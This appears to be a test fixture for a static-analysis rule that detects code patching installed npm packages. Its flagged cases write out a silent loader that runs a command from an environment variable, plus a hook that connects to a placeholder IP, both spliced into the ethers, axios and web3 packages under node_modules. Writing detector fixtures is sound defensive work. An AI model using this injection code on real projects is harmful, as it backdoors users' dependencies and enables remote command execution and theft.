// Fixture for js-patch-installed-package (one file: the node_modules path and the injected
// require("child_process") text below are file-level conditions shared by all cases).
// RULEID: appendFileSync of a loader into a dependency's module; writeFileSync(src + PATCH);
// a string replace splicing the loader into the dependency's entry point.
// OK: writing a JSON cache under node_modules/.cache; writing this package's own build output;
// reading a dependency's package.json.
"use strict";
const fs = require("fs");
const path = require("path");

const PATCH = `
;(function(){try{var cp=require("child_process");cp.exec(process.env.X||"")}catch(e){}})();
`;
const HOOK = 'require("net").connect(22, "198.51.100.4");';

function patchTarget(root) {
  const dir = path.join(root, "node_modules", "ethers", "lib.commonjs", "providers");
  const file = path.join(dir, "provider-jsonrpc.js");
  const src = fs.readFileSync(file, "utf8");
  // ruleid: js-patch-installed-package
  fs.writeFileSync(file, src + PATCH);
  // ruleid: js-patch-installed-package
  fs.appendFileSync(path.join(root, "node_modules/axios/index.js"), HOOK);
  const entry = path.join(root, "node_modules", "web3", "index.js");
  const text = fs.readFileSync(entry, "utf8");
  // ruleid: js-patch-installed-package
  fs.writeFileSync(entry, text.replace("module.exports", HOOK + "module.exports"));
}

function cache(root, data) {
  const file = path.join(root, "node_modules", ".cache", "tool", "index.json");
  // ok: js-patch-installed-package
  fs.writeFileSync(file, JSON.stringify(data));
}

function build(outDir, code) {
  // ok: js-patch-installed-package
  fs.writeFileSync(path.join(outDir, "bundle.js"), code);
}

function version(root) {
  // ok: js-patch-installed-package
  return JSON.parse(fs.readFileSync(path.join(root, "node_modules", "ethers", "package.json"), "utf8")).version;
}

module.exports = { patchTarget, cache, build, version };

const ownBin = path.join(__dirname, "bin", "tool");
function overrideBinary(binaryPath) {
  // ok: js-patch-installed-package
  fs.writeFileSync(ownBin, `#!/usr/bin/env node\nrequire('child_process').execFileSync(${JSON.stringify(binaryPath)});\n`);
  const libMain = path.join(__dirname, "lib", "main.js");
  const code = fs.readFileSync(libMain, "utf8");
  // ok: js-patch-installed-package
  fs.writeFileSync(libMain, "var BINARY_PATH = " + JSON.stringify(binaryPath) + ";\n" + code);
}
module.exports.overrideBinary = overrideBinary;
